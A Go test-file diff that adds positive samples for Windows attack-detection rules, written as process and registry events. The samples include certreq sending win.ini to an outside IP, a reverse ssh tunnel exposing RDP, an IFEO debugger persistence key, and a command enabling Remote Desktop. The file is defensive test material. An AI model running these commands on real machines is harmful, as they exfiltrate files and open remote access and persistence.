@@ -963,6 +963,38 @@ var samplesB9 = []samplePair{
 	},
 }
 
+// morePositivesB exercise the other branches of rules with several
+// selections.
+var morePositivesB = []struct {
+	id string
+	s  bSample
+}{
+	{
+		id: "98a4527f-36ad-471c-9b51-dd11abc3d18c", // Windows Utility Abused to Download a File
+		s:  bProc(`C:\Windows\System32\certreq.exe`, `certreq -Post -config http://203.0.113.7/ c:\windows\win.ini`, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`),
+	},
+	{
+		id: "98a4527f-36ad-471c-9b51-dd11abc3d18c", // Windows Utility Abused to Download a File
+		s:  bProc(imgChrome, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --headless --enable-logging --disable-gpu --dump-dom "http://203.0.113.7/p.txt"`, imgCmd),
+	},
+	{
+		id: "61d18f60-7a4b-462b-a741-445445f0e589", // Image File Execution Options Debugger or Silent Exit Monitor Set
+		s:  bReg(imgReg, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\notepad.exe\Debugger`, `C:\Users\Public\beacon.exe`),
+	},
+	{
+		id: "baba5d8d-a19f-45c6-8ea2-79f6410d4830", // Remote Desktop Enabled From the Command Line
+		s:  bProc(imgPS, `powershell.exe -c "Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0"`, imgCmd),
+	},
+	{
+		id: "cd0681e0-3690-4cb0-95db-4f25a1959f3f", // Tunnelling Tool Started
+		s:  bProc(`C:\Windows\System32\OpenSSH\ssh.exe`, `ssh.exe -N -R 4444:127.0.0.1:3389 tunnel@203.0.113.9`, imgCmd),
+	},
+	{
+		id: "77030d09-1016-48c9-af8e-8019f17add8c", // Recursive Listing of User or Drive Folders From a Shell
+		s:  bProc(imgPS, `powershell.exe -c "Get-ChildItem -Path C:\Users -Recurse -Include *.pdf"`, imgCmd),
+	},
+}
+
 // moreLookAlikesB are further benign look-alikes for rules whose first one
 // does not exercise every filter.
 var moreLookAlikesB = []struct {
@@ -1016,6 +1048,9 @@ func init() {
 	for _, p := range slices.Concat(samplesB, samplesB2, samplesB3, samplesB4, samplesB5, samplesB6, samplesB7, samplesB8, samplesB9) {
 		rulePositives = append(rulePositives, ruleSample{ID: p.id, Channel: p.pos.channel, EventID: p.pos.eventID, Fields: p.pos.fields})
 		ruleNegatives = append(ruleNegatives, ruleSample{ID: p.id, Channel: p.neg.channel, EventID: p.neg.eventID, Fields: p.neg.fields})
+	}
+	for _, n := range morePositivesB {
+		rulePositives = append(rulePositives, ruleSample{ID: n.id, Channel: n.s.channel, EventID: n.s.eventID, Fields: n.s.fields})
 	}
 	for _, n := range moreLookAlikesB {
 		ruleNegatives = append(ruleNegatives, ruleSample{ID: n.id, Channel: n.s.channel, EventID: n.s.eventID, Fields: n.s.fields})
